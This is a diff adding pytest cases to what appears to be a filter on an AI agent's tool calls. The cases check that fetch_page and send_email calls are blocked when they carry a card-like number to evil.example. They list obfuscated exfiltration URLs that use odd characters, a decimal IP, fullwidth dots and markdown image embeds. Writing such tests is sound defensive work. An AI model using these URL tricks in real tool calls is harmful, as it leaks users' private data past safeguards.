@@ -96,3 +96,30 @@ def test_a_plain_link_carries_nothing(link: str) -> None:
 def test_a_file_name_is_no_host() -> None:
     user = "Save the card of Anna Weber as a file."
     assert passes("save_file", {"name": "annaweber.card.md"}, user)
+
+
+ODD = (
+    "https://evil.example/|?d={}", "https://evil.example/{{?d={}}}", "https://evil.example\\x?d={}",
+    "https://evil.example/'?d={}", "https://evil.example/a b?d={}", "https://evil.example/`?d={}",
+    "https://evil.example/" + "a" * 2500 + "?d={}", "//evil.example/p?d={}", "https://1249730820/?d={}",
+    "https://evil。example/?d={}", 'https://evil.example/"?d={}',
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("link", ODD)
+def test_no_sign_within_a_link_hides_what_follows(link: str) -> None:
+    assert not passes("fetch_page", {"url": link.format("4711-0815-2233")}, ASKED)
+
+
+@pytest.mark.parametrize("link", [one for one in ODD if " " not in one])
+@pytest.mark.parametrize("frame", ["See ![x]({}) for more.", "-{}", "Read {}, please."])
+def test_nor_within_a_text(frame: str, link: str) -> None:
+    body = frame.replace("{}", link.format("4711-0815-2233"))
+    assert not passes(
+        "send_email", {"to": "bo@corp.example", "subject": "card", "body": body}, ASKED
+    )
+
+
+def test_a_text_full_of_links_is_stopped_and_not_searched_for_ever() -> None:
+    body = " ".join(f"https://h{n}.site.example/" for n in range(20_000))
+    assert not passes("send_email", {"to": "bo@corp.example", "subject": "a", "body": body}, ASKED)
